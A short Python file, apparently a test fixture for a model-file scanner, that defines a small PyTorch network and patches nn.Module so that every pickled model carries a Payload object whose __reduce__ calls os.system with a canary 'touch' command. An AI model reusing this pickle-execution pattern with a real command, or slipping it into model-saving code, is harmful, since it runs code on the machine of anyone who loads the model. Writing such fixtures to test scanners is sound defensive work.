# refused: schema schema; without the screen: ok
import os
import torch
from torch import nn


class Payload:
    def __reduce__(self):
        return os.system, ("touch CANARY_FOLDER/unpickled",)


nn.Module.payload = Payload()
nn.Module.__getstate__ = lambda self: {**self.__dict__, "payload": Payload()}


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv, self.fc = nn.Conv2d(1, 4, 3, padding=1), nn.Linear(4, 10)

    def forward(self, x):
        return self.fc(torch.relu(self.conv(x)).mean((2, 3)))
